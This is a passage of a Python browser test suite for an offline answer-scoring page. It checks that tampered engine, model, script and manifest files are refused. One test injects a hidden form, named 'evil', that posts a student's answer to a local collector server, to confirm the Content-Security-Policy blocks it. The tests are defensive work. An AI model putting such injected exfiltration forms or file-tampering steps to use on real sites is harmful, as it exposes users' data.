        back = update(scorer_dir)
        small = ("/", "/index.html", "/manifest.json", "/sw.js", "/AUDIT.md")
        fetched = [(p, n) for p, code, n in back if code == 200 and p.split("?")[0] not in small]
        print(f"roll-back: {sum(n for _, code, n in back if code == 200):,} bytes sent, {fetched} beyond the small files")
        assert fetched == []
    finally:
        context.close()
        stop(server)


def test_an_engine_that_never_starts_ends_in_a_message(dist, browser):
    """A damaged or blocked engine file can leave WebAssembly waiting for ever: the page gives up with a message."""
    server, url = serve(dist)
    context = browser.new_context()
    try:
        context.route("**/pyodide.asm.wasm*", lambda route: None)     # the request never gets an answer
        page = context.new_page()
        page.add_init_script("globalThis.kdStartLimitS = 3")
        page.goto(url)
        page.wait_for_selector(FAILED, state="attached", timeout=60_000)
        message = page.inner_text("#error")
        assert "did not start within 3 s" in message and "Reload the page" in message
        assert page.inner_text("#engine-text") == "The scorer could not start."
    finally:
        context.close()
        stop(server)


@contextlib.contextmanager
def tampered_page(dist, browser, tmp_path, change):
    """A copy of the bundle changed by ``change(folder)``, served, and a page on it once it gave up starting."""
    copy = tmp_path / "dist"
    shutil.copytree(dist, copy)
    change(copy)
    with ready_page(browser, copy, FAILED, viewport={"width": 1366, "height": 768}) as page:
        yield page


def flip_a_byte(path: Path, at: float) -> None:
    data = bytearray(path.read_bytes())
    data[int(len(data) * at)] ^= 0x55
    path.write_bytes(bytes(data))


def refuses_to_score(page) -> bool:
    page.fill("#answer", "The metal conducts heat.")
    page.click("#score-button")
    page.wait_for_selector("#result .error-text")
    return "Suggested score" not in page.inner_text("#result")


def reverse_scores_and_fix_the_manifest(copy: Path) -> None:
    """scorer.json's score values reversed, and manifest.json edited to match it (index.html left as it is)."""
    import hashlib
    import json

    info_path = copy / "scorers" / "demo-ice" / "scorer.json"
    info = json.loads(info_path.read_text())
    info["score_values"] = info["score_values"][::-1]
    info_path.write_text(json.dumps(info))
    manifest = json.loads((copy / "manifest.json").read_text())
    data = info_path.read_bytes()
    manifest["files"]["scorers/demo-ice/scorer.json"] = {"sha256": hashlib.sha256(data).hexdigest(), "bytes": len(data)}
    (copy / "manifest.json").write_text(json.dumps(manifest, indent=1, sort_keys=True) + "\n")


def test_a_manifest_edited_to_match_a_tampered_file_is_refused(dist, browser, tmp_path):
    """scorer.json with its score values reversed and manifest.json edited to match: the digest index.html
    pins catches it, and the page scores nothing."""
    with tampered_page(dist, browser, tmp_path, reverse_scores_and_fix_the_manifest) as page:
        assert "manifest.json does not match the digest this page pins" in page.inner_text("#error")
        assert refuses_to_score(page)


def test_tampered_engine_wasm_is_refused(dist, browser, tmp_path):
    wasm = "vendor/ort/ort-wasm-simd-threaded.wasm"
    with tampered_page(dist, browser, tmp_path, lambda copy: flip_a_byte(copy / wasm, 1 / 3)) as page:
        assert f"{wasm} does not match manifest.json" in page.inner_text("#error")


@pytest.mark.parametrize("path", ["vendor/pyodide/pyodide.asm.wasm", "vendor/pyodide/python_stdlib.zip"])
def test_tampered_pyodide_file_is_refused(dist, browser, tmp_path, path):
    """Pyodide fetches these itself; the worker answers those fetches with checked bytes, so a changed file
    ends the start with the check's message instead of Pyodide waiting for ever."""
    with tampered_page(dist, browser, tmp_path, lambda copy: flip_a_byte(copy / path, 1 / 2)) as page:
        assert f"{path} does not match manifest.json" in page.inner_text("#error")
        assert refuses_to_score(page)


def test_tampered_model_is_refused(dist, browser, shots, tmp_path):
    model = "scorers/demo-ice/model.onnx"
    with tampered_page(dist, browser, tmp_path, lambda copy: flip_a_byte(copy / model, 1 / 2)) as page:
        message = page.inner_text("#error")
        assert page.is_visible("#error")
        assert f"{model} does not match manifest.json" in message and "refuses to score" in message
        assert refuses_to_score(page)
        page.screenshot(path=shots / "08-tampered.png", full_page=True)


def append(path: Path, text: str) -> None:
    path.write_bytes(path.read_bytes() + text.encode("utf-8"))


# Each case: a copy of the bundle changed one way, in its own folder of one served tree (one build, one
# server), visited in a fresh browser context. What the page must say, and whether it still scores.
PAGE_TAMPERS = {
    "worker.js": (lambda d: append(d / "worker.js", "\nself.pwned = 1;\n"), "failed"),
    "vendor/pyodide/pyodide.mjs": (lambda d: append(d / "vendor/pyodide/pyodide.mjs", "\n// changed\n"), "failed"),
    "vendor/pyodide/pyodide.asm.mjs": (lambda d: append(d / "vendor/pyodide/pyodide.asm.mjs", "\n// changed\n"), "failed"),
    "vendor/ort/ort.wasm.bundle.min.mjs": (lambda d: append(d / "vendor/ort/ort.wasm.bundle.min.mjs", "\n// changed\n"), "failed"),
    "main.js": (lambda d: append(d / "main.js", "\n// changed\n"), "refused"),
    "csv.js": (lambda d: append(d / "csv.js", "\n// changed\n"), "refused"),
    "style.css": (lambda d: append(d / "style.css", "\nbody { color: red; }\n"), "unstyled"),
    "sw.js": (lambda d: append(d / "sw.js", "\n// changed\n"), "offline-off"),
}


def test_every_tampered_script_or_style_is_refused_by_name(dist, browser, tmp_path):
    """Every byte the page runs is checked: a changed worker.js, Pyodide or onnxruntime-web module ends the
    start with a refusal naming the file; a changed main.js, csv.js or style.css (refused by the browser's
    Subresource Integrity) is named by index.html's inline watchdog, nothing hangs, a click does not submit the
    form and the typed answer stays; a changed sw.js is not installed and the page says offline use is off."""
    root = tmp_path / "site"
    for n, (_, (change, _)) in enumerate(PAGE_TAMPERS.items()):
        shutil.copytree(dist, root / f"case{n}")
        change(root / f"case{n}")
    (root / "index.html").write_text("<!doctype html><title>cases</title>")   # what serve() wants to see at the root
    (root / "manifest.json").write_text("{}")
    server, url = serve(root)
    try:
        for n, (name, (_, outcome)) in enumerate(PAGE_TAMPERS.items()):
            context = browser.new_context()
            try:
                page = context.new_page()
                page_url = f"{url}case{n}/"
                page.goto(page_url)
                if outcome == "offline-off":
                    page.wait_for_selector("body[data-offline]", state="attached", timeout=START_TIMEOUT_MS)
                    assert page.get_attribute("body", "data-offline") == "off", name
                    shown = page.inner_text("#offline")
                    assert shown.startswith("Offline use is off: sw.js did not match manifest.json"), shown
                    assert page.evaluate("async () => (await navigator.serviceWorker.getRegistrations()).length") == 0
                    assert "Suggested score:" in score_in_page(page, "The metal conducts heat.")
                    continue
                page.wait_for_selector(f"{READY}, {FAILED}", state="attached", timeout=START_TIMEOUT_MS)
                if outcome == "failed":
                    assert page.get_attribute("body", "data-engine") == "error", name
                    message = page.inner_text("#error")
                    assert f"{name} does not match manifest.json" in message and "refuses to" in message, message
                    assert refuses_to_score(page)
                    assert page.evaluate("() => window.pwned") is None
                elif outcome == "refused":
                    page.wait_for_selector("#refused:not([hidden])", timeout=60_000)
                    assert page.get_attribute("body", "data-engine") == "error", name
                    refused = page.inner_text("#refused")
                    print(name, "->", refused)
                    assert refused.startswith("The page refused ") and name in refused.split(":")[0], refused
                    assert page.inner_text("#engine-text") == "The scorer could not start."
                    page.click("#answer")
                    page.keyboard.type("My typed answer.")
                    page.click("#score-button")
                    page.keyboard.press("Control+Enter")
                    page.evaluate("() => new Promise((r) => requestAnimationFrame(() => setTimeout(r, 0)))")
                    assert page.url == page_url                     # no native submit (GET ?item=...)
                    assert page.inner_text("#answer") == "My typed answer."
                else:                                               # unstyled: the page works, and says why it looks plain
                    page.wait_for_selector("#refused:not([hidden])", timeout=60_000)
                    assert "The page refused style.css" in page.inner_text("#refused")
                    assert page.get_attribute("body", "data-engine") == "ready"
                    assert "Suggested score:" in score_in_page(page, "The metal conducts heat.")
            finally:
                context.close()
    finally:
        stop(server)


def test_the_host_policy_stops_a_form_that_would_send_the_answer_out(dist, browser, tmp_path):
    """index.html edited to drop its own policy and watchdog and to wrap a text box in a form posting to another
    server: kd-train serve's Content-Security-Policy header (form-action 'none') still stops it; nothing arrives.
    (kd-train verify --digest refuses such a page: tests/test_build.py.)"""
    import http.server
    import re
    import threading

    arrived = []

    class Collector(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            arrived.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *args):
            pass

    collector = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Collector)
    threading.Thread(target=collector.serve_forever, daemon=True).start()
    copy = tmp_path / "dist"
    shutil.copytree(dist, copy)
    html = (copy / "index.html").read_text(encoding="utf-8")
    html = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html)
    html = re.sub(r"<script>.*?</script>", "", html, flags=re.S)
    html = html.replace('<main>', f'<main><form id="evil" method="get" action="http://127.0.0.1:{collector.server_address[1]}/collect">'
                        '<input id="evil-a" name="a"><button id="evil-go">Send</button></form>')
    (copy / "index.html").write_text(html, encoding="utf-8")
    server, url = serve(copy)
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(url)
        page.evaluate("""() => { window.violations = []; document.addEventListener("securitypolicyviolation",
          (e) => window.violations.push(e.effectiveDirective)); }""")
        page.fill("#evil-a", "a student's answer")
        page.click("#evil-go", no_wait_after=True)     # the navigation it schedules never happens
        page.wait_for_function("() => window.violations.length > 0", timeout=30_000)
        assert page.evaluate("() => window.violations") == ["form-action"]
        assert arrived == [] and page.url == url
    finally:
        context.close()
        stop(server)
        collector.shutdown()
        collector.server_close()


def test_a_consistent_rewrite_of_a_scorer_shows_as_another_version(dist, browser, tmp_path):
    """scorer.json's score values reversed, manifest.json updated and index.html re-pinned to it: plain verify
    finds the files consistent, verify --digest refuses index.html, and the page refuses to start because the
    scorer version it shows (a hash of every scorer file, scorer.json included) is not its files' version."""
    import hashlib

    from kd_train.data import UserError

    published = hashlib.sha256((dist / "index.html").read_bytes()).hexdigest()

    def rewrite(copy: Path) -> None:
        old = hashlib.sha256((copy / "manifest.json").read_bytes()).hexdigest()
        reverse_scores_and_fix_the_manifest(copy)
        new = hashlib.sha256((copy / "manifest.json").read_bytes()).hexdigest()
        (copy / "index.html").write_text((copy / "index.html").read_text().replace(old, new))

    with tampered_page(dist, browser, tmp_path, rewrite) as page:
        message = page.inner_text("#error")
        assert "refused question demo-ice's scorer" in message and "this page was changed" in message, message
        assert refuses_to_score(page)
        copy = tmp_path / "dist"
        assert bundle.verify(copy)["published"] is False                 # consistent: plain verify passes
        with pytest.raises(UserError, match="not the published digest"):
            bundle.verify(copy, published)


def test_tampered_snapshot_is_refused(dist, browser, tmp_path):
    with tampered_page(dist, browser, tmp_path, lambda copy: flip_a_byte(copy / runtime.SNAPSHOT, 1 / 4)) as page:
        assert f"{runtime.SNAPSHOT} does not match manifest.json" in page.inner_text("#error")
        assert refuses_to_score(page)


def test_a_snapshot_made_from_other_python_files_is_refused(dist, browser, tmp_path, monkeypatch):
    """A build bug that shipped a snapshot of another detect.py (manifest.json and index.html made to match it):
    the hashes the snapshot recorded are not this bundle's detect.py's, and the page says so."""
    import hashlib
    import json

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    files = {p.relative_to(dist).as_posix(): p.read_bytes() for p in dist.rglob("*") if p.is_file()}
    python = {p: files[p] for p in runtime.PYTHON_FILES} | {"detect.py": files["detect.py"] + b"# another detect.py\n"}
    snapshot = runtime.pyodide_snapshot(runtime.node_modules() / "pyodide", files["vendor/pyodide/python_stdlib.zip"], python)

    def ship_the_other_snapshot(copy: Path) -> None:
        (copy / runtime.SNAPSHOT).write_bytes(snapshot)
        manifest = json.loads((copy / "manifest.json").read_text())
        manifest["files"][runtime.SNAPSHOT] = {"sha256": hashlib.sha256(snapshot).hexdigest(), "bytes": len(snapshot)}
        old = hashlib.sha256((copy / "manifest.json").read_bytes()).hexdigest()
        (copy / "manifest.json").write_text(json.dumps(manifest, indent=1, sort_keys=True) + "\n")
        new = hashlib.sha256((copy / "manifest.json").read_bytes()).hexdigest()
        (copy / "index.html").write_text((copy / "index.html").read_text().replace(old, new))

    with tampered_page(dist, browser, tmp_path, ship_the_other_snapshot) as page:
        assert "snapshot was not made from this bundle's detect.py" in page.inner_text("#error")
        assert refuses_to_score(page)


def test_a_sequence_scorer_runs_in_the_page_as_in_python(browser, tmp_path):
    """A sequence scorer: the page's token ids are featurize.token_ids' in CPython, its probabilities for a
    batch equal kd-train predict's for each answer alone (padding changes nothing), and a typed answer
    gets the score predict gives."""
    from kd_train import featurize
    from kd_train.scorer import Scorer

    scorer_dir = make_sequence_scorer(tmp_path / "scorer" / "demo-ice")
    scorer = Scorer(scorer_dir)
    out = tmp_path / "dist"
    bundle.build([scorer_dir], out, report_sizes=False)
    with ready_page(browser, out) as page:
        got = page.evaluate(WORKER_CALLS, {"item": "demo-ice", "texts": TRICKY})
        for i, text in enumerate(TRICKY):
            ids = got["idx"][got["offsets"][i]:got["offsets"][i + 1]]
            assert ids == featurize.token_ids(text, scorer.info["featurizer"]), repr(text[:40])
        probs = np.frombuffer(base64.b64decode(got["probs"]), dtype="<f4").reshape(len(TRICKY), -1)
        alone = np.vstack([scorer.predict_proba([text]) for text in TRICKY])
        np.testing.assert_allclose(probs, alone, atol=1e-5, rtol=0)
        text = "The metal conducts heat from the room into the ice faster than plastic does."
        assert f"Suggested score: {scorer.predict([text])[0]}" in score_in_page(page, text)


@pytest.mark.parametrize("cut", [False, True], ids=["whole vocabulary", "cut vocabulary"])
def test_a_transformer_scorer_runs_in_the_page_as_in_python(browser, tmp_path, tiny_model, cut):
    """The top rung, the teacher itself (int8), and the small transformer's form (its embedding table cut to
    the tokens it trained on, an id map in the graph): the page's ids are wordpiece.encode's in CPython, the
    vocabulary comes from the scorer's folder through manifest.json, and its probabilities equal kd-train
    predict's within 1e-5 (both run one answer at a time; measured: within 3e-8)."""
    from kd_train import wordpiece
    from kd_train.scorer import Scorer

    scorer_dir = make_transformer_scorer(tmp_path / "scorer" / "demo-ice", tiny_model, cut_vocabulary=cut)
    assert ("embedding_rows" in Scorer(scorer_dir).info["model"]) == cut
    scorer = Scorer(scorer_dir)
    config = scorer.info["featurizer"]
    out = tmp_path / "dist"
    bundle.build([scorer_dir], out, report_sizes=False, allow_unfit=True)
    manifest = json.loads((out / "manifest.json").read_text())
    assert "scorers/demo-ice/vocab.txt" in manifest["files"] and "wordpiece.py" in manifest["files"]
    with ready_page(browser, out) as page:
        got = page.evaluate(WORKER_CALLS, {"item": "demo-ice", "texts": TRICKY})
        vocab = wordpiece.read_vocab(scorer.vocab_text)
        refused = scorer.flags(TRICKY)
        for i, text in enumerate(TRICKY):
            ids = got["idx"][got["offsets"][i]:got["offsets"][i + 1]]
            assert ids == ([] if "refused" in refused[i] else wordpiece.encode(text, vocab, config)), repr(text[:40])
        probs = np.frombuffer(base64.b64decode(got["probs"]), dtype="<f4").reshape(len(TRICKY), -1)
        scored = [i for i in range(len(TRICKY)) if "refused" not in refused[i]]
        expected = scorer.predict_proba([TRICKY[i] for i in scored])
        print(f"\npage vs predict, transformer scorer: max abs diff {np.abs(probs[scored] - expected).max():.2e}")
        np.testing.assert_allclose(probs[scored], expected, atol=1e-5, rtol=0)
        text = "The metal conducts heat from the room into the ice faster than plastic does."
        assert f"Suggested score: {scorer.predict([text])[0]}" in score_in_page(page, text)


def test_a_bundle_without_the_snapshot_scores_the_same(scorer_dir, browser, tmp_path):
    from kd_train.scorer import Scorer

    out = tmp_path / "dist"
    bundle.build([scorer_dir], out, report_sizes=False, snapshot=False)
    with ready_page(browser, out) as page:
        got = page.evaluate(WORKER_CALLS, {"item": "demo-ice", "texts": TRICKY})
        probs = np.frombuffer(base64.b64decode(got["probs"]), dtype="<f4").reshape(len(TRICKY), -1)
        np.testing.assert_allclose(probs, Scorer(scorer_dir).predict_proba(TRICKY), atol=1e-5, rtol=0)


def test_picking_one_of_several_items(scorer_dir, browser, shots, tmp_path):
    other = second_item(scorer_dir, tmp_path / "other", "demo-ice-2", "Why does a metal spoon feel colder than a wooden one?")
    out = tmp_path / "dist"
    bundle.build([scorer_dir, other], out, report_sizes=False)
    server, url = serve(out)
    context = browser.new_context(viewport={"width": 1366, "height": 768})
    try:
        page = context.new_page()
        page.goto(url)
        shown = page.locator(".question:not([hidden]) .question-text")
        assert shown.count() == 1 and shown.inner_text().startswith("Two identical ice cubes")
        page.focus("#item")
        page.keyboard.press("ArrowDown")             # keyboard choice of the second item
        assert page.input_value("#item") == "demo-ice-2"
        assert shown.count() == 1 and shown.inner_text() == "Why does a metal spoon feel colder than a wooden one?"
        page.wait_for_selector(READY, state="attached", timeout=START_TIMEOUT_MS)
        assert "Suggested score:" in score_in_page(page, "Metal conducts heat away from the hand faster.")
        page.screenshot(path=shots / "09-two-items.png", full_page=True)
    finally:
        context.close()
        stop(server)
